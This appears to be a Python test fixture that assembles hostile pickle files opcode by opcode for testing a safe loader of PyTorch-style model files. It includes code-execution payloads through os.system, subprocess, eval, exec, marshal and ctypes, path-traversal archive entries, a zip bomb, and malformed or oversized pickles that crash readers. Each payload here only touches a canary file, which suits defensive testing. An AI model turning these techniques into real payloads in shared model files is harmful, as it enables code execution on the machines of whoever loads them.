"""Pickles that do something when they are read: each of them touches a canary file in a way of its own, or claims
what nobody has. They are written opcode by opcode, since what they do is not what pickle.dumps would write."""

from __future__ import annotations

import io
import marshal
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

MAGIC = 0x1950A86A20F9469CFC6C  # of torch's format before it was a zip
DEEP = 200_000


@dataclass(frozen=True)
class Hostile:
    """A pickle, and the files that it is put into."""

    files: tuple[tuple[bytes, str], ...]
    """content and suffix of each"""
    program: bytes | None
    """the pickle that pickle.loads runs with the same effect; None: it breaks readers instead"""


# ---- assembling


def call(target: bytes, *args: bytes) -> bytes:
    """Call what `target` pushes with what `args` push."""
    return target + b"(" + b"".join(args) + b"tR"


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def builtin(attribute: str) -> bytes:
    return name("builtins", attribute)


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def data(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def items(*values: bytes) -> bytes:
    return b"(" + b"".join(values) + b"l"


def plain(value: Any) -> bytes:
    """Push an ordinary value: pickle's own code for it, without its header and its end."""
    return pickle.dumps(value, 2)[2:-1].replace(b"q\x00", b"")


def program(body: bytes, protocol: int = 2) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


# ---- wrapping


def raw(body: bytes) -> bytes:
    return body


def zipped(body: bytes, **more: bytes) -> bytes:
    """As torch.save writes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("archive/data.pkl", body)
        archive.writestr("archive/version", b"3\n")
        archive.writestr("archive/byteorder", b"little")
        for file, content in more.items():
            archive.writestr(f"archive/{file}", content)
    return out.getvalue()


def legacy(body: bytes) -> bytes:
    """As torch.save wrote before 1.6: several pickles in a row."""
    about = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    head = b"".join(pickle.dumps(value, 2) for value in (MAGIC, 1001, about))
    return head + body + pickle.dumps([], 2)


def tarred(body: bytes) -> bytes:
    """As torch.save wrote before 0.2."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for file, content in (
            ("sys_info", pickle.dumps({"protocol_version": 1000, "little_endian": True}, 2)),
            ("storages", pickle.dumps(0, 2)),
            ("tensors", pickle.dumps(0, 2)),
            ("pickle", body),
        ):
            entry = tarfile.TarInfo(file)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return out.getvalue()


CONTAINERS: tuple[tuple[Callable[[bytes], bytes], str], ...] = (
    (zipped, ".pth"),
    (raw, ".pkl"),
    (legacy, ".pt"),
    (tarred, ".tar"),
)


# ---- the files


def hostile_files(canary: Path, spare: Path) -> dict[str, Hostile]:
    """Name -> files. `spare` is a file that exists, whose copying makes a canary too."""
    found = {title: Hostile(everywhere(body), body) for title, body in programs(canary, spare).items()}
    found |= {title: Hostile(everywhere(body), None) for title, body in claims().items()}
    system = program(call(name("os", "system"), text(f"touch {canary}")))
    magic, version, end = pickle.dumps(MAGIC, 2), pickle.dumps(1001, 2), pickle.dumps([], 2)
    script = {"constants.pkl": system, "code/__torch__.py": f"open({str(canary)!r}, 'w').close()\n".encode()}
    others = {
        "legacy-magic": (system + version, ".pt"),
        "legacy-protocol": (magic + system, ".pt"),
        "legacy-system-info": (magic + version + system, ".pt"),
        "legacy-storage-keys": (legacy(pickle.dumps({}, 2)).removesuffix(end) + system, ".pt"),
        "torchscript": (zipped(system, **script), ".pt"),
        "torchscript-constants": (zipped(program(b"}"), **script), ".pt"),
        "zip-names-go-up": (zipped(system, **{f"../../../../../../../..{canary}": b"x"}), ".pth"),
        "zip-in-zip": (zipped(zipped(system)), ".pth"),
        "zip-claims-a-gigabyte": (_claiming_zip(1 << 30), ".pth"),
        "zip-cut-short": (zipped(program(b"}"))[:60], ".pth"),
        "tar-names-go-up": (_climbing_tar(canary), ".tar"),
        "tensor-of-a-trillion": (_huge_tensor(1), ".pth"),
        "tensor-of-a-trillion-expanded": (_huge_tensor(0), ".pth"),
        "storage-beyond-its-end": (_huge_tensor(1, claimed=1 << 60), ".pth"),
    }
    return found | {title: Hostile((file,), None) for title, file in others.items()}


def everywhere(body: bytes) -> tuple[tuple[bytes, str], ...]:
    return tuple((wrap(body), suffix) for wrap, suffix in CONTAINERS)


def programs(canary: Path, spare: Path) -> dict[str, bytes]:
    """Pickles that touch the canary when pickle.loads reads them."""
    path, touch = str(canary), f"touch {canary}"
    code = f"open({path!r}, 'w').close()"
    compiled = data(marshal.dumps(compile(code, "x", "exec")))
    system, os_module = name("os", "system"), call(name("importlib", "import_module"), text("os"))
    getattr_, touched = builtin("getattr"), call(system, text(touch))
    nested = program(touched)
    calls: dict[str, tuple[str, str, tuple[Any, ...]]] = {
        "os-system": ("os", "system", (touch,)),
        "posix-system": ("posix", "system", (touch,)),
        "os-mkdir": ("os", "mkdir", (path,)),
        "os-makedirs": ("os", "makedirs", (path,)),
        "os-mkfifo": ("os", "mkfifo", (path,)),
        "os-open": ("os", "open", (path, 0o101)),
        "os-symlink": ("os", "symlink", ("nowhere", path)),
        "os-link": ("os", "link", (str(spare), path)),
        "os-spawn": ("os", "spawnlp", (0, "touch", "touch", path)),
        "os-posix-spawn": ("os", "posix_spawnp", ("touch", ["touch", path], {})),
        "subprocess-popen": ("subprocess", "Popen", (["touch", path],)),
        "subprocess-call": ("subprocess", "call", (["touch", path],)),
        "subprocess-run": ("subprocess", "run", (["touch", path],)),
        "subprocess-check-output": ("subprocess", "check_output", (["touch", path],)),
        "subprocess-getoutput": ("subprocess", "getoutput", (touch,)),
        "eval": ("builtins", "eval", (code,)),
        "exec": ("builtins", "exec", (code,)),
        "exec-of-python-2": ("__builtin__", "eval", (code,)),
        "open": ("builtins", "open", (path, "w")),
        "io-open": ("io", "open", (path, "w")),
        "file-io": ("_io", "FileIO", (path, "w")),
        "codecs-open": ("codecs", "open", (path, "w")),
        "gzip": ("gzip", "open", (path, "wb")),
        "zip-file": ("zipfile", "ZipFile", (path, "w")),
        "log-file": ("logging", "FileHandler", (path,)),
        "copy-file": ("shutil", "copyfile", (str(spare), path)),
        "url": ("urllib.request", "urlretrieve", (spare.as_uri(), path)),
        "profile": ("cProfile", "run", (code, f"{path}.profile")),
        "numpy-runstring": ("numpy.testing", "runstring", (code, {})),
        "pickle-in-pickle": ("pickle", "loads", (nested,)),
    }
    found = {
        title: program(
            call(name(module, attribute), *(data(a) if isinstance(a, bytes) else plain(a) for a in args))
        )
        for title, (module, attribute, args) in calls.items()
    }
    partial = name("functools", "partial")
    found |= {
        # chains: one call's result is the next one's function or argument
        "getattr-of-a-module": program(call(call(getattr_, os_module, text("system")), text(touch))),
        "import-builtin": program(
            call(call(getattr_, call(builtin("__import__"), text("os")), text("system")), text(touch))
        ),
        "path-touch": program(call(call(getattr_, call(name("pathlib", "Path"), text(path)), text("touch")))),
        "partial": program(call(call(partial, system, text(touch)))),
        "partial-by-its-state": program(
            call(partial, builtin("print")) + b"(" + system + b"(" + text(touch) + b"t}}tb" + b"(tR"
        ),
        "attrgetter": program(
            call(call(call(name("operator", "attrgetter"), text("system")), os_module), text(touch))
        ),
        "methodcaller": program(
            call(call(name("operator", "methodcaller"), text("system"), text(touch)), os_module)
        ),
        "map": program(call(builtin("list"), call(builtin("map"), system, items(text(touch))))),
        "starmap": program(
            call(builtin("list"), call(name("itertools", "starmap"), system, items(b"(" + text(touch) + b"t")))
        ),
        "filter": program(call(builtin("set"), call(builtin("filter"), system, items(text(touch))))),
        "compile-and-exec": program(
            call(builtin("exec"), call(builtin("compile"), text(code), text("x"), text("exec")))
        ),
        "marshalled-function": program(
            call(call(name("types", "FunctionType"), call(name("marshal", "loads"), compiled), b"}"))
        ),
        "marshalled-function-newobj": program(
            call(name("types", "FunctionType") + b"(" + call(name("marshal", "loads"), compiled) + b"}t\x81")
        ),
        "ctypes": program(
            call(call(getattr_, call(name("ctypes", "CDLL"), b"N"), text("system")), data(touch.encode()))
        ),
        "run-code-of-a-console": program(
            call(call(getattr_, call(name("code", "InteractiveInterpreter")), text("runsource")), text(code))
        ),
        "popen-read": program(call(call(getattr_, call(name("os", "popen"), text(touch)), text("read")))),
        "run-a-file": program(
            call(
                builtin("exec"),
                call(call(getattr_, call(name("pathlib", "Path"), text(f"{spare}.py")), text("read_text"))),
            )
        ),
        "runpy": program(call(name("runpy", "run_path"), text(f"{spare}.py"))),
        # opcodes that call, or find what is called, otherwise
        "inst": program(b"(" + text(touch) + b"ios\nsystem\n"),
        "obj": program(b"(" + system + text(touch) + b"o"),
        "stack-global": program(text("os") + text("system") + b"\x93(" + text(touch) + b"tR", 4),
        "stack-global-from-the-memo": program(
            text("system") + b"\x940" + text("os") + b"\x940h\x01h\x00\x93" + b"\x94(" + text(touch) + b"tR", 4
        ),
        "stack-global-qualified": program(
            text("builtins") + text("open.__call__") + b"\x93(" + text(path) + text("w") + b"tR", 4
        ),
        "global-from-the-memo": program(system + b"q\x050h\x05(" + text(touch) + b"tR"),
        "extension-code": program(
            call(name("copyreg", "add_extension"), text("os"), text("system"), b"K\xf0")
            + b"0\x82\xf0("
            + text(touch)
            + b"tR"
        ),
        "extension-code-of-two-bytes": program(
            call(name("copyreg", "add_extension"), text("posix"), text("system"), b"M\xf0\xf0")
            + b"0\x83\xf0\xf0("
            + text(touch)
            + b"tR"
        ),
        "popped-again": program(touched + b"0}"),
        "in-a-list": program(b"](" + touched + b"e"),
        "in-a-dict": program(b"}(" + text("fc.weight") + touched + b"u"),
        "as-a-key": program(b"}(" + touched + text("fc.weight") + b"u"),
        "state-of-an-ordered-dict": program(
            call(name("collections", "OrderedDict")) + b"}" + text("x") + touched + b"sb"
        ),
        "state-of-an-array": program(
            call(name("numpy.core.multiarray", "_reconstruct"), name("numpy", "ndarray"), b"(K\x00t", data(b"b"))
            + b"(K\x01(K\x01t"
            + call(name("numpy", "dtype"), text("O8"))
            + b"\x89"
            + items(touched)
            + b"tb"
        ),
        "setstate": program(
            call(name("collections", "Counter"))
            + call(call(getattr_, os_module, text("system")), text(touch))
            + b"0}b"
        ),
        "protocol-0": b"cos\nsystem\n(S'" + touch.encode() + b"'\ntR.",
        "protocol-4-frame": b"\x80\x04\x95" + struct.pack("<Q", 0) + program(touched, 4)[2:],
    }
    return found


def claims() -> dict[str, bytes]:
    """Pickles that claim sizes and depths that nobody has, or end in the middle."""
    return {
        "text-of-an-exabyte": b"\x80\x04\x8d" + struct.pack("<Q", 1 << 60) + b"x.",
        "bytes-of-an-exabyte": b"\x80\x04\x8e" + struct.pack("<Q", 1 << 60) + b"x.",
        "text-of-four-gigabytes": b"\x80\x02X" + struct.pack("<I", (1 << 32) - 1) + b"x.",
        "number-of-two-gigabytes": b"\x80\x02\x8b" + struct.pack("<i", (1 << 31) - 1) + b"x.",
        "frame-of-an-exabyte": b"\x80\x04\x95" + struct.pack("<Q", 1 << 60) + b"}.",
        "memo-far-away": b"\x80\x02}r" + struct.pack("<I", (1 << 32) - 1) + b".",
        "memo-never-filled": b"\x80\x02h\x07.",
        # far deeper than any stack: 8 MiB are 42 bytes a level
        "nested-deep": b"\x80\x02" + b"(" * DEEP + b"t" * DEEP + b".",
        "lists-deep": b"\x80\x02" + b"]" * DEEP + b"a" * (DEEP - 1) + b".",
        "dict-of-itself": b"\x80\x02}q\x00X\x05\x00\x00\x00modelh\x00s.",
        "list-of-itself": b"\x80\x02]q\x00h\x00a.",
        "empty-stack": b"\x80\x02.",
        "mark-without-end": b"\x80\x02(.",
        "pops-too-much": b"\x80\x020000.",
        "items-without-a-dict": b"\x80\x02K\x01(K\x02K\x03u.",
        "items-of-a-text": b"\x80\x02" + text("x") + b"(K\x02K\x03u.",
        "appends-to-a-number": b"\x80\x02K\x01(K\x02e.",
        "state-without-an-object": b"\x80\x02K\x01}b.",
        "persistent-id-of-a-text": b"\x80\x02" + text("storage") + b"Q.",
        "persistent-id-of-a-function": b"\x80\x02(" + text("storage") + name("os", "system") + b"tQ.",
        "cut-short": b"\x80\x02}(X\x05\x00\x00",
        "nothing": b"",
        "no-pickle": b"\x89PNG\r\n\x1a\n" + bytes(64),
        "unknown-protocol": b"\x80\x63}.",
    }


def _climbing_tar(canary: Path) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for file in ("sys_info", "pickle", "storages", "tensors", f"../../../../../../../..{canary}", str(canary)):
            entry = tarfile.TarInfo(file)
            entry.size = 4
            archive.addfile(entry, io.BytesIO(b"\x80\x02}."))
    return out.getvalue()


def _claiming_zip(size: int) -> bytes:
    """An archive whose entry says that it is `size` bytes long when it is unpacked."""
    body = program(text("x" * 1000))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/data.pkl", body)
        archive.writestr("archive/version", b"3\n")
    return out.getvalue().replace(struct.pack("<I", len(body)), struct.pack("<I", size))


def _huge_tensor(stride: int, claimed: int = 4) -> bytes:
    """A tensor of four numbers in the file that says it has a trillion."""
    storage = (
        b"(" + text("storage") + name("torch", "FloatStorage") + text("0") + text("cpu") + plain(claimed) + b"tQ"
    )
    shape, strides = b"(" + plain(10**12) + b"t", b"(" + plain(stride) + b"t"
    tensor = call(
        name("torch._utils", "_rebuild_tensor_v2"), storage, b"K\x00", shape, strides, b"\x89",
        call(name("collections", "OrderedDict")),
    )  # fmt: skip
    body = program(b"}" + text("fc.weight") + tensor + b"s")
    return zipped(body, **{"data/0": bytes(16)})
